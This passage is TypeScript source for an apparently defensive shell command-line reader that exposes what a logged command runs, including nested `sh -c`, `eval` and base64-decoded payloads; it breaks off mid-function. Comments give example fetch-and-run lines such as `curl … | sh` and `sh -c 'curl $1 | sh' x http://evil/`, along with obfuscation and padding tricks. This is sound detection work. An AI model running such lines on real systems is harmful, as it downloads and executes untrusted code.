/**
 * Just enough of a POSIX shell reader to see what a command line runs: words, pipelines, lists,
 * command and process substitutions, redirections, and the payloads of `sh -c`, `su -c` and `eval`.
 * It never executes or expands anything, never throws, and all work is bounded by the limits below.
 *
 * The limits are set above what one log event can hold (1 MB), because whatever lies past a limit is
 * not seen: an attacker who knows the limits pads the command line (`true;` a few hundred times, a
 * long comment, a thousand `-v`) to push `curl … | sh` out of sight. With `dropInert`, simple commands
 * that cannot matter (no utility, shell, interpreter or path, not in a pipeline) are dropped as soon as
 * they end, so padding does not use up the command budget either.
 */
import { executableName, MULTICALL_BINARIES, UTILITIES } from "./catalogue.js";

/** Characters of one script (a `sh -c` payload) that are read; the rest is ignored. */
export const MAX_SCRIPT_CHARS = 1024 * 1024;
/** Characters read over all nested payloads of one command line (or one shared {@link SegmentBudget}). */
export const MAX_TOTAL_CHARS = 4 * 1024 * 1024;
/** Simple commands kept for one command line (or one shared {@link SegmentBudget}). */
export const MAX_SEGMENTS = 4096;
/** Words kept per simple command: more than a megabyte of one-letter words. */
export const MAX_WORDS = 512 * 1024;
/** Nesting of `sh -c` payloads inside payloads. */
export const MAX_PAYLOAD_DEPTH = 4;
/** Nesting of `$( … )`, backticks and `<( … )` inside one script. */
export const MAX_SUBSTITUTION_DEPTH = 16;
/** Input read by {@link tokenize}. */
export const MAX_TOKENIZE_CHARS = 1024 * 1024;

export interface Redirect {
  /** The operator as written, without a file descriptor number: ">", ">>", "<", "&>", ">&", "<<"… */
  op: string;
  /** The word after the operator. */
  target: string;
}

/** How a command came to run inside another one. */
export type SubstitutionKind = "command" | "process";

/** One simple command of a command line, with how it is connected to the others. */
export interface CommandSegment {
  /** Words after quote removal. Substitutions stay as written (`$(curl x)`), nothing is expanded. */
  argv: string[];
  redirects: Redirect[];
  /** The command whose standard output feeds this one through `|`. */
  pipedFrom?: CommandSegment;
  /** The command this one's standard output feeds through `|`. */
  pipesTo?: CommandSegment;
  /** Set when this command runs inside `$( … )`, backticks (`command`) or `<( … )`/`>( … )` (`process`). */
  substitutionOf?: {
    /** The command in one of whose words the substitution appears. */
    segment: CommandSegment;
    kind: SubstitutionKind;
    /** Index in `segment.argv` of the word holding the substitution; -1 inside a redirection target. */
    argIndex: number;
  };
  /** Set when this command comes from the payload of a shell (`sh -c '…'`, `su -c`, `eval`). */
  payloadOf?: CommandSegment;
  /** Working directory after an earlier `cd` in the same script, when it can be known; "~" is home. */
  cwd?: string;
  /** 0 for the command line itself, +1 per payload level. */
  depth: number;
  /**
   * Set on a command whose payload (`payloadOf` of the commands it runs) was decoded first: a shell
   * fed by `base64 -d`, or a command holding `$(echo … | base64 -d)`. The encoding's name.
   */
  decodedStage?: string;
}

/** Options of {@link commandSegments}. */
export interface SegmentOptions {
  /** Working directory of the command line, if known. */
  cwd?: string;
  /**
   * Treat argv elements that are exactly a shell operator ("|", "&&", "||", ";", "&") as operators.
   * Right for exec-session commands whose runner may have used a shell; wrong for a real process argv.
   */
  splitOperators?: boolean;
  /**
   * Work allowance to draw from; several calls sharing one (every ancestor of one event) are bounded
   * together. A fresh allowance per call when absent.
   */
  budget?: SegmentBudget;
  /**
   * Leave out simple commands that run no catalogued utility, multi-call binary, shell, interpreter or
   * program given by path, unless they are in a pipeline with one that does. The argv itself stays.
   */
  dropInert?: boolean;
}

/** What is left of the work allowed: characters of scripts to read and simple commands to keep. */
export interface SegmentBudget {
  chars: number;
  segments: number;
  /**
   * Limits that were reached while reading, by name ("depth", "substitutions", "variables",
   * "segments", "characters", "words"): what lies past them was not read structurally. Callers fail
   * closed on a non-empty set (see flat-scan.ts).
   */
  exhausted?: Set<BudgetLimit>;
}

/** The reader's limits, as named in {@link SegmentBudget.exhausted}. */
export type BudgetLimit = "depth" | "substitutions" | "variables" | "segments" | "characters" | "words";

/** A full allowance: {@link MAX_TOTAL_CHARS} characters and {@link MAX_SEGMENTS} commands. */
export function segmentBudget(): SegmentBudget {
  return { chars: MAX_TOTAL_CHARS, segments: MAX_SEGMENTS, exhausted: new Set() };
}

/** Notes that `limit` was reached. */
function exhaust(budget: SegmentBudget, limit: BudgetLimit): void {
  if (budget.exhausted === undefined) budget.exhausted = new Set();
  budget.exhausted.add(limit);
}

const SHELLS = new Set([
  "sh",
  "bash",
  "dash",
  "ash",
  "zsh",
  "ksh",
  "mksh",
  "lksh",
  "oksh",
  "pdksh",
  "yash",
  "posh",
  "hush",
  "rbash",
  "csh",
  "tcsh",
  "fish",
]);

/** True when `name` (a path or a name) is a shell that the reader knows how to give a payload to. */
export function isShell(nameOrPath: string): boolean {
  return SHELLS.has(executableName(nameOrPath));
}

const INTERPRETER =
  /^(?:python|pypy|perl|ruby|php|lua|luajit|node|nodejs|deno|bun|tclsh|wish|pwsh|powershell)[0-9.]*$/;

/** True for script interpreters that run code they are given (python3, perl, node, php…). */
export function isInterpreter(nameOrPath: string): boolean {
  return INTERPRETER.test(executableName(nameOrPath));
}

/** Commands that run other code: shells, interpreters, `source`, `.`, `eval`, `su -c`. */
const RUNNERS = new Set(["source", ".", "eval", "su", "runuser"]);

/**
 * A simple command that cannot matter to detection: it runs no catalogued utility, no multi-call
 * binary, no shell or interpreter and no program given by path. Dropping it loses nothing the rule
 * reads; commands in a pipeline are judged together by the caller.
 */
function isInert(segment: CommandSegment): boolean {
  const head = segment.argv[commandStart(segment.argv)];
  if (head === undefined) return true;
  if (head.includes("/") || hasGlob(head)) return false;
  return !(
    UTILITIES.has(head) ||
    MULTICALL_BINARIES.has(head) ||
    SHELLS.has(head) ||
    INTERPRETER.test(head) ||
    RUNNERS.has(head)
  );
}

/** True when an unquoted word holds a pathname-expansion pattern (`c?rl`, `/???/???/wge*`, `[c]url`). */
export function hasGlob(word: string): boolean {
  return /[*?]|\[[^\]]+\]/.test(word);
}

/**
 * Drops `last` and the commands piping into it when they are all inert and are the newest entries of
 * `list` (nothing nested inside them was kept), and gives their place back to the budget.
 */
function recycle(list: CommandSegment[], last: CommandSegment, budget: SegmentBudget): void {
  let count = 0;
  for (let node: CommandSegment | undefined = last; node !== undefined; node = node.pipedFrom) {
    if (list[list.length - 1 - count] !== node || !isInert(node)) return;
    count++;
  }
  list.length -= count;
  budget.segments += count;
}

const RESERVED = new Set([
  "!",
  "{",
  "}",
  "if",
  "then",
  "elif",
  "else",
  "do",
  "while",
  "until",
  "time",
  "coproc",
]);
const ASSIGNMENT = /^[A-Za-z_][A-Za-z0-9_]*(?:\[[^\]]*\])?\+?=/;

interface WrapperSpec {
  /** Short options that take a value (the rest of the cluster or the next word). */
  valued: string;
  /** Long options that take a value when it is not attached with "=". */
  longValued?: readonly string[];
  /** Words that follow the options before the command (timeout's DURATION, chroot's NEWROOT). */
  operandsBefore?: number;
  /** Options that make the wrapper not run a command (`command -v`). */
  stops?: readonly string[];
  /** Assignments may follow the options (env). */
  assignments?: boolean;
}

// Commands that run their arguments as another command; the reader looks through them.
const WRAPPERS: ReadonlyMap<string, WrapperSpec> = new Map<string, WrapperSpec>([
  ["env", { valued: "uCS", longValued: ["--unset", "--chdir", "--split-string"], assignments: true }],
  ["sudo", { valued: "ugCDhprtTU", longValued: ["--user", "--group", "--chdir", "--host", "--prompt"] }],
  ["doas", { valued: "uC" }],
  ["nohup", { valued: "" }],
  ["setsid", { valued: "" }],
  ["exec", { valued: "a" }],
  ["command", { valued: "", stops: ["-v", "-V"] }],
  ["builtin", { valued: "" }],
  ["time", { valued: "fo", longValued: ["--format", "--output"] }],
  ["nice", { valued: "n", longValued: ["--adjustment"] }],
  ["ionice", { valued: "cnpPu", longValued: ["--class", "--classdata"] }],
  ["stdbuf", { valued: "ioe", longValued: ["--input", "--output", "--error"] }],
  ["timeout", { valued: "sk", longValued: ["--signal", "--kill-after"], operandsBefore: 1 }],
  ["chroot", { valued: "", longValued: ["--userspec", "--groups"], operandsBefore: 1 }],
  ["xargs", { valued: "adEILlnPs", longValued: ["--arg-file", "--delimiter", "--max-args", "--max-procs"] }],
  ["unshare", { valued: "", longValued: ["--setuid", "--setgid", "--wd", "--root"] }],
  ["nsenter", { valued: "tSGrw", longValued: ["--target", "--setuid", "--setgid", "--root", "--wd"] }],
  // Privilege droppers and init shims of container entrypoints: `gosu app cmd`, `su-exec app cmd`…
  [
    "runuser",
    {
      valued: "ugGw",
      longValued: ["--user", "--group", "--supp-group", "--whitelist-environment"],
      stops: ["-c", "--command", "--session-command", "-l", "--login", "-"],
    },
  ],
  ["gosu", { valued: "", operandsBefore: 1 }],
  ["su-exec", { valued: "", operandsBefore: 1 }],
  ["s6-setuidgid", { valued: "", operandsBefore: 1 }],
  ["setpriv", { valued: "", longValued: ["--reuid", "--regid", "--groups", "--securebits"] }],
  ["chpst", { valued: "uUe/nlLmdopfcrt" }],
  ["tini", { valued: "pe" }],
  ["dumb-init", { valued: "r", longValued: ["--rewrite"] }],
  ["taskset", { valued: "", operandsBefore: 1 }],
  [
    "flock",
    {
      valued: "wE",
      longValued: ["--timeout", "--conflict-exit-code"],
      operandsBefore: 1,
      stops: ["-c", "--command"],
    },
  ],
  // Tools that run a command to trace it or to route its traffic (through Tor or a SOCKS proxy).
  ["strace", { valued: "eoOpPsSuIbXaE" }],
  ["ltrace", { valued: "aAeEnopuxDlFLw" }],
  ["proxychains", { valued: "f" }],
  ["proxychains4", { valued: "f" }],
  ["torsocks", { valued: "upaP", longValued: ["--user", "--pass", "--address", "--port"] }],
  ["tsocks", { valued: "" }],
  ["watch", { valued: "nq", longValued: ["--interval", "--equexit"] }],
]);

/**
 * Where the command itself starts in a simple command's words: after variable assignments, reserved
 * words (`if`, `!`, `do`…), wrappers (`sudo -u x`, `env A=1`, `timeout 5`, `nohup`, `xargs -n1`…) and
 * multi-call binaries (`busybox wget` starts at `wget`). Returns the index into `argv`, `argv.length`
 * when there is no command.
 */
export function commandStart(argv: readonly string[]): number {
  let i = 0;
  // Each step consumes at least one word, so this ends within argv.length steps.
  while (i < argv.length) {
    const word = argv[i]!;
    if (RESERVED.has(word) || ASSIGNMENT.test(word)) {
      i++;
      continue;
    }
    const name = executableName(word);
    if (MULTICALL_BINARIES.has(name)) {
      const next = argv[i + 1];
      if (next === undefined || next.startsWith("-")) return i;
      i++;
      continue;
    }
    const spec = WRAPPERS.get(name);
    if (spec === undefined) return i;
    const after = skipWrapper(argv, i + 1, spec);
    if (after === -1) return i;
    i = after;
  }
  return i;
}

/** The words of the command itself: `argv` from {@link commandStart} on. */
export function commandWords(argv: readonly string[]): string[] {
  return argv.slice(commandStart(argv));
}

function skipWrapper(argv: readonly string[], start: number, spec: WrapperSpec): number {
  let i = start;
  while (i < argv.length) {
    const word = argv[i]!;
    if (spec.stops?.includes(word)) return -1;
    if (word === "--") return i + 1;
    if (word.startsWith("--")) {
      i += word.includes("=") || !spec.longValued?.includes(word) ? 1 : 2;
      continue;
    }
    if (word.startsWith("-") && word.length > 1) {
      // A cluster such as -un or -n10: a valued letter takes the rest of the cluster or the next word.
      let consumedNext = false;
      for (let k = 1; k < word.length; k++) {
        if (spec.valued.includes(word[k]!)) {
          consumedNext = k === word.length - 1;
          break;
        }
      }
      i += consumedNext ? 2 : 1;
      continue;
    }
    if (spec.assignments && ASSIGNMENT.test(word)) {
      i++;
      continue;
    }
    break;
  }
  return Math.min(i + (spec.operandsBefore ?? 0), argv.length);
}

/**
 * The script a shell invocation runs: the operand after `-c` (also in clusters such as `-lc`, `-ec`),
 * the `-c`/`--command` value of `su`/`runuser`, or the joined arguments of `eval`. `words` starts at
 * the command (see {@link commandStart}). Undefined when the words do not run a script given inline.
 */
export function shellPayload(words: readonly string[]): string | undefined {
  const first = words[0];
  if (first === undefined) return undefined;
  const name = executableName(first);
  if (name === "eval") return words.length > 1 ? words.slice(1, MAX_WORDS).join(" ") : undefined;
  // `script -qc 'cmd' /dev/null` runs cmd through a shell (a common way to get a terminal).
  if (name === "su" || name === "runuser" || name === "script") return suPayload(words);
  if (!SHELLS.has(name)) return undefined;
  let command = false;
  for (let i = 1; i < words.length; i++) {
    const word = words[i]!;
    if (word === "--" || word === "-") {
      return command ? words[i + 1] : undefined;
    }
    if (word.startsWith("--")) {
      if (word === "--rcfile" || word === "--init-file") i++;
      continue;
    }
    if ((word.startsWith("-") || word.startsWith("+")) && word.length > 1) {
      for (let k = 1; k < word.length; k++) {
        const letter = word[k];
        if (letter === "c" && word[0] === "-") command = true;
        // -o/-O take an option name (bash -o pipefail); it is the next word.
        else if (letter === "o" || letter === "O") i++;
      }
      continue;
    }
    return command ? word : undefined;
  }
  return undefined;
}

function suPayload(words: readonly string[]): string | undefined {
  for (let i = 1; i < words.length; i++) {
    const word = words[i]!;
    // -c alone or ending a cluster of flags (`script -qc`, `su -lc`).
    if (/^-[A-Za-z]*c$/.test(word) || word === "--command" || word === "--session-command")
      return words[i + 1];
    if (word.startsWith("--command=")) return word.slice("--command=".length);
    if (word.startsWith("--session-command=")) return word.slice("--session-command=".length);
  }
  return undefined;
}

/**
 * Splits a command string into words the way a POSIX shell would, without interpreting operators or
 * expanding anything: whitespace separates words; single quotes are literal; double quotes keep
 * `\\`, `\"`, `\$` and `` \` `` escapes; a backslash outside quotes escapes the next character; an
 * unterminated quote runs to the end. Reads at most {@link MAX_TOKENIZE_CHARS} characters, linear
 * time, never throws.
 */
export function tokenize(command: string): string[] {
  if (typeof command !== "string") return [];
  const text = command.length > MAX_TOKENIZE_CHARS ? command.slice(0, MAX_TOKENIZE_CHARS) : command;
  const words: string[] = [];
  let word = "";
  let started = false;
  let i = 0;
  while (i < text.length) {
    const c = text[i]!;
    if (c === " " || c === "\t" || c === "\n" || c === "\r") {
      if (started) words.push(word);
      word = "";
      started = false;
      i++;
    } else if (c === "'") {
      const end = text.indexOf("'", i + 1);
      const stop = end === -1 ? text.length : end;
      word += text.slice(i + 1, stop);
      started = true;
      i = stop + 1;
    } else if (c === '"') {
      i++;
      while (i < text.length && text[i] !== '"') {
        const d = text[i]!;
        const next = text[i + 1];
        if (d === "\\" && next !== undefined && '\\"$`\n'.includes(next)) {
          if (next !== "\n") word += next;
          i += 2;
        } else {
          word += d;
          i++;
        }
      }
      started = true;
      i++;
    } else if (c === "\\") {
      const next = text[i + 1];
      if (next === undefined) word += c;
      else if (next !== "\n") word += next;
      started = started || next !== "\n";
      i += 2;
    } else {
      word += c;
      started = true;
      i++;
    }
  }
  if (started) words.push(word);
  return words;
}

const OPERATOR_WORDS = new Set(["|", "|&", "&&", "||", ";", "&", ";;"]);

/** Words that open a compound command, with the word that closes it. */
const GROUP_OPENERS: ReadonlyMap<string, string> = new Map([
  ["{", "}"],
  ["if", "fi"],
  ["while", "done"],
  ["until", "done"],
  ["for", "done"],
  ["select", "done"],
  ["case", "esac"],
]);
const GROUP_CLOSERS = new Set(GROUP_OPENERS.values());

type Budget = SegmentBudget;

/**
 * The simple commands a process argv runs, following shell payloads: for `bash -lc 'cd /tmp; wget
 * http://x/a -O- | sh'` the result is the bash command itself, then `cd /tmp`, `wget … -O-` (piping
 * into) `sh`, with `cwd` "/tmp" from the `cd`. Payloads nest up to {@link MAX_PAYLOAD_DEPTH} levels.
 * The first segment is always the argv itself (split at operators when `splitOperators` is set).
 * Never throws; bounded by the MAX_* limits of this module.
 */
export function commandSegments(argv: readonly string[], options: SegmentOptions = {}): CommandSegment[] {
  const out: CommandSegment[] = [];
  const budget: Budget = options.budget ?? segmentBudget();
  const words = Array.isArray(argv) ? argv.filter((w): w is string => typeof w === "string") : [];
  const top: CommandSegment[] = [];
  let current: CommandSegment | undefined;
  let pipeFrom: CommandSegment | undefined;
  let cwd = options.cwd;
  const finish = () => {
    if (current === undefined) return;
    cwd = afterCd(current, cwd);
    current = undefined;
  };
  for (const word of words.slice(0, MAX_WORDS)) {
    if (options.splitOperators && OPERATOR_WORDS.has(word)) {
      const seg = current;
      finish();
      pipeFrom = word === "|" || word === "|&" ? seg : undefined;
      // The first command is the argv itself and always stays.
      if (options.dropInert && pipeFrom === undefined && seg !== undefined && seg !== top[0]) {
        recycle(top, seg, budget);
      }
      continue;
    }
    if (current === undefined) {
      if (budget.segments <= 0) {
        exhaust(budget, "segments");
        break;
      }
      budget.segments--;
      current = { argv: [], redirects: [], depth: 0, ...(cwd !== undefined ? { cwd } : {}) };
      if (pipeFrom !== undefined) {
        current.pipedFrom = pipeFrom;
        pipeFrom.pipesTo = current;
        pipeFrom = undefined;
      }
      top.push(current);
    }
    if (current.argv.length < MAX_WORDS) current.argv.push(word);
    else exhaust(budget, "words");
  }
  if (words.length > MAX_WORDS) exhaust(budget, "words");
  finish();
  for (const segment of top) {
    out.push(segment);
    expandPayload(segment, out, budget, options.dropInert === true);
  }
  return out;
}

/**
 * The words an unquoted `{a,b}` expands to, as bash does: `{curl,-s,http://x}` is `curl -s http://x`,
 * a way to write a command without spaces (`bash -c {curl,-s,http://x}|{sh,}`). One level, no ranges;
 * empty words are dropped. Anything else is the word itself.
 */
function braceExpansion(word: string): string[] {
  const open = word.indexOf("{");
  if (open === -1 || word.length > 4096) return [word];
  const close = word.indexOf("}", open);
  if (close === -1 || word.indexOf("{", open + 1) !== -1 || word.indexOf("}", close + 1) !== -1)
    return [word];
  const list = word.slice(open + 1, close);
  if (!list.includes(",") || word.slice(0, open).includes(",")) return [word];
  const before = word.slice(0, open);
  const after = word.slice(close + 1);
  return list
    .split(",")
    .map((part) => `${before}${part}${after}`)
    .filter((part) => part.length > 0);
}

/** Follows `cd DIR` so later commands of the same script know where they run. */
function afterCd(segment: CommandSegment, cwd: string | undefined): string | undefined {
  const words = commandWords(segment.argv);
  if (words[0] !== "cd") return cwd;
  const target = words.slice(1).find((w) => !w.startsWith("-") || w === "-");
  if (target === undefined || target === "~") return "~";
  if (target === "-") return undefined;
  return resolvePath(cwd, target);
}

/**
 * Resolves `path` against `cwd` and removes `.`, `..` and repeated slashes. A path starting with "~"
 * stays relative to home ("~/x"). Undefined when a relative path meets an unknown directory.
 */
export function resolvePath(cwd: string | undefined, path: string): string | undefined {
  let base: string;
  let rest: string;
  if (path.startsWith("/")) {
    base = "";
    rest = path;
  } else if (path === "~" || path.startsWith("~/")) {
    base = "~";
    rest = path.slice(1);
  } else if (cwd !== undefined && cwd.length > 0) {
    const resolvedCwd = cwd === "~" || cwd.startsWith("~/") || cwd.startsWith("/") ? cwd : `/${cwd}`;
    base = resolvedCwd.startsWith("~") ? "~" : "";
    rest = `${resolvedCwd.startsWith("~") ? resolvedCwd.slice(1) : resolvedCwd}/${path}`;
  } else {
    return undefined;
  }
  const parts: string[] = [];
  for (const part of rest.split("/")) {
    if (part === "" || part === ".") continue;
    if (part === "..") parts.pop();
    else parts.push(part);
  }
  const joined = `/${parts.join("/")}`;
  return base === "~" ? (parts.length === 0 ? "~" : `~${joined}`) : joined;
}

function expandPayload(
  segment: CommandSegment,
  out: CommandSegment[],
  budget: Budget,
  dropInert: boolean,
  variables?: ReadonlyMap<string, string>,
): void {
  const words = commandWords(segment.argv);
  const payload = shellPayload(words);
  if (payload === undefined || payload.length === 0) return;
  if (segment.depth >= MAX_PAYLOAD_DEPTH) {
    exhaust(budget, "depth");
    return;
  }
  const parser = new ScriptParser(payload, segment.depth + 1, segment.cwd, budget, out, dropInert);
  parser.payloadOf = segment;
  if (variables !== undefined) for (const [name, value] of variables) parser.variables.set(name, value);
  // `sh -c 'curl $1 | sh' x http://evil/`: the words after a shell's payload are $0, $1, …
  if (isShell(words[0] ?? "")) {
    const at = words.lastIndexOf(payload);
    parser.positional = at === -1 ? [] : words.slice(at + 1, at + 1 + MAX_POSITIONAL);
    if (parser.positional.length === 0) parser.positional = [words[0]!];
  }
  parser.parseAll();
}

/** Decoders whose output can be a script: `base64 -d`, `base32 --decode`, `xxd -r -p`, `openssl base64 -d`. */
function decoderOf(words: readonly string[]): "base64" | "base32" | "hex" | undefined {
  const tool = words[0] === undefined ? "" : executableName(words[0]);
  const rest = words.slice(1);
  const decodes = rest.some((w) => w === "--decode" || /^-[A-Za-z]*[dD]$/.test(w));
  if ((tool === "base64" || tool === "basenc") && decodes) return "base64";
  if (tool === "base32" && decodes) return "base32";
  if (tool === "xxd" && rest.some((w) => /^-[A-Za-z]*r/.test(w))) return "hex";
  if (tool === "openssl" && (rest[0] === "base64" || rest.includes("-base64") || rest.includes("-a"))) {
    return rest.includes("-d") ? "base64" : undefined;
  }
  return undefined;
}

/** The literal text an `echo X`/`printf X` segment prints, or a decoder's here-string. */
function printedLiteral(segment: CommandSegment): string | undefined {
  const here = segment.redirects.find((r) => r.op === "<<<");
  if (here !== undefined) return here.target;
  const words = commandWords(segment.argv);
  const tool = words[0];
  if (tool !== "echo" && tool !== "printf") return undefined;
  const operands = words.slice(1).filter((w) => !/^-[neE]+$/.test(w) && w !== "%s");
  return operands.length > 0 ? operands.join(" ") : undefined;
}

/** Decodes `text` as `kind`; undefined unless it is well-formed and decodes to printable text. */
export function decodeStage(text: string, kind: "base64" | "base32" | "hex"): string | undefined {
  const compact = text.replace(/\s+/g, "");
  if (compact.length < 4 || compact.length > MAX_SCRIPT_CHARS) return undefined;
  let bytes: Buffer;
  if (kind === "base64") {
    if (!/^[A-Za-z0-9+/_-]+={0,2}$/.test(compact)) return undefined;
    bytes = Buffer.from(compact, "base64");
  } else if (kind === "hex") {
    if (!/^(?:[0-9a-fA-F]{2})+$/.test(compact)) return undefined;
    bytes = Buffer.from(compact, "hex");
  } else {
    if (!/^[A-Z2-7]+=*$/i.test(compact)) return undefined;
    bytes = base32Decode(compact.toUpperCase().replace(/=+$/, ""));
  }
  let printable = 0;
  for (const byte of bytes)
    if ((byte >= 0x20 && byte < 0x7f) || byte === 9 || byte === 10 || byte === 13) printable++;
  if (bytes.length === 0 || printable < bytes.length * 0.95) return undefined;
  return bytes.toString("latin1");
}

function base32Decode(text: string): Buffer {
  const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
  const out: number[] = [];
  let bits = 0;
  let value = 0;
  for (const c of text) {
    value = (value << 5) | alphabet.indexOf(c);
    bits += 5;
    if (bits >= 8) {
      out.push((value >>> (bits - 8)) & 0xff);
      bits -= 8;
    }
  }
  return Buffer.from(out);
}

/**
 * The script a command reads as code from its standard input or a substitution, as literal text:
 * `echo Y3VybC… | base64 -d | sh` runs the decoded text; `sh <<< 'curl x'` and `echo 'curl x' | sh`
 * run the literal; `$(echo Y3Vy… | base64 -d)` as a command word runs the decoded words.
 */
function stdinScript(segment: CommandSegment): { script: string; encoding?: string } | undefined {
  const words = commandWords(segment.argv);
  const head = words[0];
  if (head === undefined) return undefined;
  // A decoder whose output is run as the command itself (`$(echo … | base64 -d)` in command position).
  const sub = segment.substitutionOf;
  if (sub !== undefined && sub.kind === "command" && segment.pipesTo === undefined) {
    const outer = commandWords(sub.segment.argv)[0];
    if (sub.argIndex === commandStart(sub.segment.argv) || outer === "eval") {
      const encoding = decoderOf(words);
      const literal = encoding === undefined ? undefined : sourceLiteral(segment);
      const script = literal === undefined ? undefined : decodeStage(literal, encoding!);
      if (script !== undefined) return { script, encoding: encoding! };
    }
  }
  if (!isShell(head) || shellPayload(words) !== undefined) return undefined;
  if (words.slice(1).some((w) => !w.startsWith("-") || w === "-")) return undefined;
  const here = segment.redirects.find((r) => r.op === "<<<");
  if (here !== undefined) return { script: here.target };
  const from = segment.pipedFrom;
  if (from === undefined) return undefined;
  const fromWords = commandWords(from.argv);
  const encoding = decoderOf(fromWords);
  if (encoding === undefined) {
    const literal = printedLiteral(from);
    return literal === undefined ? undefined : { script: literal };
  }
  const literal = sourceLiteral(from);
  const script = literal === undefined ? undefined : decodeStage(literal, encoding);
  return script === undefined ? undefined : { script, encoding };
}

/** What a decoder segment reads: its here-string, or what the `echo`/`printf` piping into it prints. */
function sourceLiteral(decoder: CommandSegment): string | undefined {
  const here = decoder.redirects.find((r) => r.op === "<<<");
  if (here !== undefined) return here.target;
  return decoder.pipedFrom === undefined ? undefined : printedLiteral(decoder.pipedFrom);
}

function expandStdinScript(
  segment: CommandSegment,
  out: CommandSegment[],
  budget: Budget,
  dropInert: boolean,
) {
  const found = stdinScript(segment);
  if (found === undefined || found.script.trim().length === 0) return;
  // The decoded words run where the substitution stands: in the command that holds it.
  const runner =
    found.encoding !== undefined && segment.substitutionOf !== undefined
      ? segment.substitutionOf.segment
      : segment;
  if (segment.depth >= MAX_PAYLOAD_DEPTH) {
    exhaust(budget, "depth");
    return;
  }
  if (found.encoding !== undefined) runner.decodedStage = found.encoding;
  const parser = new ScriptParser(found.script, segment.depth + 1, segment.cwd, budget, out, dropInert);
  parser.payloadOf = runner;
  parser.parseAll();
}

/** Variables a script may set and later run: `a=curl; $a x | sh`. */
const MAX_VARIABLES = 256;
const MAX_VARIABLE_CHARS = 4096;
const DECLARATIONS = new Set(["export", "readonly", "declare", "typeset", "local"]);
const VARIABLE_NAME = /^[A-Za-z_][A-Za-z0-9_]*/;

/** Positional parameters kept for a payload ($0 … $99). */
const MAX_POSITIONAL = 100;

/** Records the plain assignments of a finished command (`a=curl`, `export b="-s x"`) in `variables`. */
function recordAssignments(segment: CommandSegment, variables: Map<string, string>, budget: Budget): void {
  const start = commandStart(segment.argv);
  const head = segment.argv[start];
  if (head !== undefined && !DECLARATIONS.has(head)) return;
  for (const word of segment.argv) {
    const name = VARIABLE_NAME.exec(word)?.[0];
    if (name === undefined || word[name.length] !== "=") continue;
    const value = word.slice(name.length + 1);
    if (value.length > MAX_VARIABLE_CHARS) {
      exhaust(budget, "variables");
      continue;
    }
    if (variables.size >= MAX_VARIABLES && !variables.has(name)) {
      exhaust(budget, "variables");
      continue;
    }
    variables.set(name, value);
  }
}

/** `$()`, `$( )`, ``` `` ```, `$(:)`, `$(true)`: command substitutions that print nothing. */
const EMPTY_SUBSTITUTION = /^(?:\$\(\s*(?:(?::|true|false)\s*)?\)|`\s*(?:(?::|true|false)\s*)?`)$/;

/** A recursive-descent reader of one script; segments go to `out` in reading order. */
class ScriptParser {
  private readonly text: string;
  private pos = 0;
  payloadOf: CommandSegment | undefined;
  /** Values assigned earlier in the script; `$name` and `${name}` read as them. */
  readonly variables = new Map<string, string>();
  /** `$0`, `$1`, … of a `sh -c` payload: the words after the payload; empty when none were given. */
  positional: string[] = [];
  /** The word being read took an unquoted variable's value: the shell splits it at blanks. */
  private splitWord = false;

  constructor(
    source: string,
    private readonly depth: number,
    private cwd: string | undefined,
    private readonly budget: Budget,
    private readonly out: CommandSegment[],
    private readonly dropInert: boolean,
  ) {
    const allowed = Math.max(0, Math.min(MAX_SCRIPT_CHARS, budget.chars));
    if (source.length > allowed) exhaust(budget, "characters");
    this.text = source.length > allowed ? source.slice(0, allowed) : source;
    budget.chars -= this.text.length;
  }

  parseAll(): void {
    this.parseList(null, undefined, 0);
  }

  /**
   * Reads commands until `terminator` (")" for `$(`/`<(`, "`" for backticks) or the end of the text.
   * `context` marks the segments as running inside a substitution of another command.
   */
  private parseList(
    terminator: ")" | "`" | null,
    context: CommandSegment["substitutionOf"],
    nesting: number,
  ): void {
    const text = this.text;
    let current: CommandSegment | undefined;
    let word = "";
    let wordStarted = false;
    // Nothing in the word was quoted, escaped or substituted: brace expansion applies.
    let plain = true;
    let pendingRedirect: string | undefined;
    let pipeFrom: CommandSegment | undefined;
    let parens = 0;
    // Compound commands — `( … )`, `{ …; }`, `if …; fi`, loops — send the output of every command in
    // them wherever the group's output goes: `(curl x) | sh` pipes curl into sh.
    const groups: { closer: string; start: number }[] = [];
    let closedGroup: CommandSegment[] | undefined;
    let pipeFromGroup: CommandSegment[] | undefined;
    const closeGroup = (closer: string, end: number): CommandSegment[] | undefined => {
      for (let i = groups.length - 1; i >= 0; i--) {
        if (groups[i]!.closer !== closer) continue;
        const start = groups[i]!.start;
        groups.length = i;
        return this.out
          .slice(start, end)
          .filter(
            (s) => s.depth === this.depth && s.substitutionOf === context && s.payloadOf === this.payloadOf,
          );
      }
      return undefined;
    };

    const ensureSegment = (): CommandSegment | undefined => {
      if (current !== undefined) return current;
      closedGroup = undefined;
      if (this.budget.segments <= 0) {
        exhaust(this.budget, "segments");
        return undefined;
      }
      this.budget.segments--;
      current = { argv: [], redirects: [], depth: this.depth };
      if (this.cwd !== undefined) current.cwd = this.cwd;
      if (context !== undefined) current.substitutionOf = context;
      if (this.payloadOf !== undefined) current.payloadOf = this.payloadOf;
      if (pipeFrom !== undefined) {
        current.pipedFrom = pipeFrom;
        pipeFrom.pipesTo = current;
        pipeFrom = undefined;
      }
      if (pipeFromGroup !== undefined) {
        for (const member of pipeFromGroup) member.pipesTo ??= current;
        current.pipedFrom = pipeFromGroup[pipeFromGroup.length - 1];
        pipeFromGroup = undefined;
      }
      this.out.push(current);
      return current;
    };
    const endWord = () => {
      if (!wordStarted) return;
      const segment = ensureSegment();
      if (segment !== undefined) {
        if (pendingRedirect !== undefined) segment.redirects.push({ op: pendingRedirect, target: word });
        else if (segment.argv.length >= MAX_WORDS) exhaust(this.budget, "words");
        else {
          const closer = segment.argv.length === 0 ? GROUP_OPENERS.get(word) : undefined;
          if (closer !== undefined) groups.push({ closer, start: this.out.length - 1 });
          if (plain) segment.argv.push(...braceExpansion(word));
          else if (this.splitWord) segment.argv.push(...word.split(/[ \t\n]+/).filter((w) => w !== ""));
          else segment.argv.push(word);
        }
      }
      pendingRedirect = undefined;
      word = "";
      wordStarted = false;
      plain = true;
      this.splitWord = false;
    };
    const endCommand = (pipe: boolean) => {
      endWord();
      const finished = current;
      current = undefined;
      pendingRedirect = undefined;
      let group: CommandSegment[] | undefined;
      if (finished === undefined) group = closedGroup;
      else if (finished.argv.length === 1 && GROUP_CLOSERS.has(finished.argv[0]!)) {
        const at = this.out.lastIndexOf(finished);
        group = closeGroup(finished.argv[0]!, at);
        // The closing word runs nothing; the group's commands stand for it.
